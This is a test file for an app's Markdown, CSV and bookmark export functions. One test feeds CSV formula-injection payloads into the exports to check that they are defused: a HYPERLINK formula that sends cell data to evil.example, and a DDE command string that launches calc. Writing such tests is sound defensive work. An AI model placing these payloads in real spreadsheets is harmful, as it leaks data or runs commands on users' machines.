import { describe, expect, it } from 'vitest';
import { JSDOM } from 'jsdom';
import { unzipSync, strFromU8 } from 'fflate';
import { exportMarkdownZip, exportMarkdownSingle } from './markdown';
import { exportInstapaperCsv, exportPocketCsv, csvField } from './csv';
import { parseImport } from '../import';
import { exportNetscape } from './netscape';
import { safeFileName } from './filenames';
import { sampleArticle } from '../../../../tests/support/sample-articles';

const parser = new new JSDOM('').window.DOMParser();
const NOW = Date.UTC(2025, 5, 1);

describe('Markdown export', () => {
  it('writes one note per article with front matter and unique, safe names', () => {
    const a = { ...sampleArticle(1), title: 'Kyiv: talks / "ceasefire"?', tags: ['central asia', 'news'] };
    const b = { ...sampleArticle(2), title: 'kyiv: talks / "ceasefire"?' };
    const c = { ...sampleArticle(3), title: '', url: 'https://www.bbc.com/x' };
    const files = unzipSync(exportMarkdownZip([a, b, c], parser, NOW).data as Uint8Array);
    expect(Object.keys(files)).toEqual(['Kyiv talks ceasefire.md', 'kyiv talks ceasefire (2).md', 'www.bbc.com.md']);
    const note = strFromU8(files['Kyiv talks ceasefire.md']!);
    expect(note.startsWith('---\ntitle: "Kyiv: talks / \\"ceasefire\\"?"\nsource: "https://news.example.org/')).toBe(true);
    expect(note).toContain('\ntags:\n  - "central-asia"\n  - "news"\n');
    expect(note).toContain(`created: "${new Date(a.savedAt).toISOString()}"`);
    expect(note).toContain('\n## Section 1\n');
    expect(note).toContain('[link](https://example.org/1)');
    expect(note).toContain('![Photo 1](https://img.example.org/1.jpg)');
    expect(note).toContain('> Quoted 1');
  });

  it('falls back to the plain text when an article has no HTML, and writes a single-file variant', () => {
    const a = { ...sampleArticle(4), html: '' };
    const one = exportMarkdownSingle([a, sampleArticle(5)], parser, NOW).data as string;
    expect(one).toContain(a.text.split('\n\n')[0]);
    expect(one.match(/^# Story/gm)).toHaveLength(2);
  });

  it('makes names safe on every system', () => {
    expect(safeFileName('CON')).toBe('CON_');
    expect(safeFileName('..hidden')).toBe('hidden');
    expect(safeFileName('a#b^c[d]|e')).toBe('a b c d e');
    expect(safeFileName('x'.repeat(300))).toHaveLength(100);
  });
});

describe('CSV and bookmarks exports', () => {
  it('quotes fields per RFC 4180', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    const a = { ...sampleArticle(1), title: 'Talks, "resumed"', tags: ['a', 'b c'], read: true };
    const csv = exportPocketCsv([a], NOW).data as string;
    expect(csv.split('\r\n')).toEqual([
      'title,url,time_added,tags,status',
      `"Talks, ""resumed""",${a.url},${Math.floor(a.savedAt / 1000)},a|b c,archive`,
      '',
    ]);
  });

  it('defuses cells a spreadsheet would run as formulas, and Sift reads them back unchanged', () => {
    const hostile = {
      ...sampleArticle(3),
      title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      excerpt: '@SUM(1+1)*cmd|" /C calc"!A0',
      tags: ['+tag', 'news'],
    };
    const plain = { ...sampleArticle(4), title: '-5 °C in Oslo tonight', tags: [] };
    const pocket = exportPocketCsv([hostile, plain], NOW).data as string;
    const lines = pocket.split('\r\n');
    expect(lines[1]).toMatch(/^"'=HYPERLINK\(/);
    expect(lines[1]).toContain(",'+tag|news,");
    expect(lines[2]).toMatch(/^'-5 °C in Oslo tonight,/);
    const insta = exportInstapaperCsv([hostile], NOW).data as string;
    expect(insta.split('\r\n')[1]).toContain(`,"'=HYPERLINK(`);
    expect(insta.split('\r\n')[1]).toContain(`,"'@SUM(1+1)`);
    // No cell of either file starts like a formula.
    for (const csv of [pocket, insta]) {
      for (const line of csv.split('\r\n').slice(1, -1)) {
        for (const cell of line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g)!) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const back = parseImport(new TextEncoder().encode(pocket), NOW).articles;
    expect(back.map((a) => a.title)).toEqual([hostile.title, plain.title]);
    expect(back[0]!.tags).toEqual(['+tag', 'news']);
    const back2 = parseImport(new TextEncoder().encode(insta), NOW).articles;
    expect(back2[0]!.title).toBe(hostile.title);
    expect(back2[0]!.excerpt).toBe(hostile.excerpt);
  });

  it('writes a Netscape file with ADD_DATE, TAGS and escaped titles', () => {
    const html = exportNetscape([{ ...sampleArticle(2), title: 'A <b> & "c"', tags: ['x', 'y'] }], NOW).data as string;
    expect(html.startsWith('<!DOCTYPE NETSCAPE-Bookmark-file-1>')).toBe(true);
    expect(html).toMatch(
      /<DT><A HREF="https:\/\/news\.example\.org\/2\/story-2\?ref=a&amp;b=2" ADD_DATE="\d+" LAST_MODIFIED="\d+" TAGS="x,y" TOREAD="1">A &lt;b&gt; &amp; &quot;c&quot;<\/A>/,
    );
  });
});
